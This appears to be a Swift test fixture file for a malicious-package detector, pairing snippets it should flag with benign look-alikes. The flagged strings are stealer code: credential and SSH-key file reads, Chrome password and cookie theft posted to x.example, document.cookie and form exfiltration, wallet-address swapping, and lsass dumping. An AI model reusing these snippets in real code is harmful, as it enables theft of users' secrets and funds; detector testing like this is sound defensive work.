import TestSupport

@testable import Analyzers

private let addresses = """
    const list = ['0x1f9840a85d5aF5bf1D1762F925BDADdC4201F984', '0x6B175474E89094C44Da98b954EedeAC495271d0F',
      '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48', '0xdAC17F958D2ee523a2206206994597C13D831ec7',
      '0x2260FAC5E5542a773Aa44fBCfeDf7C193bc2C599', '0x514910771AF9Ca656af840dff83E8264EcF986CA',
      'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4', 'bc1qrp33g0q5c5txsp9arysrx4k6zdkfs4nce4xj0gdcccefvpysxf3qccfmv3']
    """

let indicatorCredentialFixtures = RuleFixtures(
    flagged: [
        .credentialCollection: scriptPackage(
            "for (const f of ['/.npmrc', '/.aws/credentials', '/.ssh/id_rsa', '/.kube/config']) take(home + f)"),
        .severalCredentials: pythonPackage("FILES = ['~/.pypirc', '~/.git-credentials', '~/.docker/config.json']"),
        .browserSecrets: pythonPackage(
            "import os\nroot = os.getenv('LOCALAPPDATA')\np = root + '\\\\Google\\\\Chrome\\\\User Data'\n"
                + "db = p + '\\\\Default\\\\Login Data'"),
        .storedSecretsSent: pythonPackage(
            "import os, requests\np = os.getenv('LOCALAPPDATA') + '\\\\Google\\\\Chrome\\\\User Data'\n"
                + "db = p + '\\\\Default\\\\Login Data'\nrequests.post('https://x.example', files={'a': open(db, 'rb')})"
        ),
        .chatTokens: pythonPackage(
            "import os\na = os.getenv('APPDATA')\npaths = [a + '\\\\discordcanary', a + '\\\\discordptb']\n"
                + "tail = '\\\\Local Storage\\\\leveldb'"),
        .walletFiles: scriptPackage(
            "const w = ['/Exodus/exodus.wallet', '/Electrum/wallets', '/.config/solana/id.json'].map(p => home + p)"),
        .credentialRead: scriptPackage("require('fs').readFileSync('/home/box/.npmrc')"),
        .credentialPath: scriptPackage("const path = '~/.aws/credentials'"),
        .browserPasswordFile: scriptPackage("const name = 'logins.json'"),
        .walletPath: scriptPackage("const name = '/Electrum/wallets'"),
        .runsSecretScanner: scriptPackage("require('child_process').execSync('trufflehog filesystem / --json')"),
        .secretShapesSent: scriptPackage(
            "const r = [/AKIA[0-9A-Z]{16}/, /ghp_[A-Za-z0-9]{36}/, /npm_[A-Za-z0-9]{36}/]\n"
                + "fetch('https://x.example', { method: 'POST', body: found })"),
        .secretShapes: scriptPackage("const r = [/AKIA[0-9A-Z]{16}/, /ghp_[A-Za-z0-9]{36}/, /npm_[A-Za-z0-9]{36}/]"),
        .paymentHook: scriptPackage(
            addresses + "\nconst old = window.fetch\nwindow.fetch = async (...a) => change(old(...a))"),
        .paymentAddresses: pythonPackage(
            "import pyperclip\nMINE = '0x1f9840a85d5aF5bf1D1762F925BDADdC4201F984'\npyperclip.copy(MINE)"),
        .runnerMemory: pythonPackage("name = 'Runner.Worker'\npath = f'/proc/{pid}/mem'\nopen(path, 'rb')"),
        .securityServiceMemory: pythonPackage("lib.MiniDumpWriteDump\nn = 'MiniDumpWriteDump'\np = 'lsass.exe'"),
        .namesRunnerProcess: scriptPackage("const p = 'Runner.Worker'"),
        .processMemoryFile: pythonPackage("path = '/proc/self/mem'"),
        .browserCookiesTaken: pythonPackage(
            "import browser_cookie3, requests\nrequests.post('https://x.example', data=str(browser_cookie3.chrome()))"),
        .pageSecretsSent: scriptPackage("new Image().src = 'https://x.example/?c=' + btoa(document.cookie)"),
        .formsSent: scriptPackage(
            "document.addEventListener('submit', e => navigator.sendBeacon('https://x.example/c', new FormData(e.target)))"
        ),
        .paymentAsked: scriptPackage(
            "window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from, "
                + "to: '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976' }] })"),
    ],
    clean: [
        "CRED-PAGE": scriptPackage(
            """
            const theme = document.cookie.match(/theme=(\\w+)/); form.addEventListener('submit', save)
            new Image().src = 'https://x.example/a.png'; fetch('/api', { body: new FormData(form) })
            """),
        "CRED-FILE": scriptPackage(
            """
            // reads ~/.aws/credentials
            const ignored = ['.npmrc', '.gitignore', '.DS_Store'], hosts = require('fs').readFileSync('/a/.ssh/known_hosts')
            throw new Error('No credentials. Please put them into the file ~/.aws/credentials as described in the manual')
            """),
        "CRED-SCAN": scriptPackage("const one = /AKIA[0-9A-Z]{16}/\nfetch('https://x.example')"),
        "CRED-WALLET": scriptPackage(addresses + "\nmodule.exports = list\nfetch('https://x.example')"),
        "CRED-MEM": pythonPackage("path = f'/proc/{pid}/maps'\nopen('/proc/meminfo')\nword = 'lsass'"),
    ])
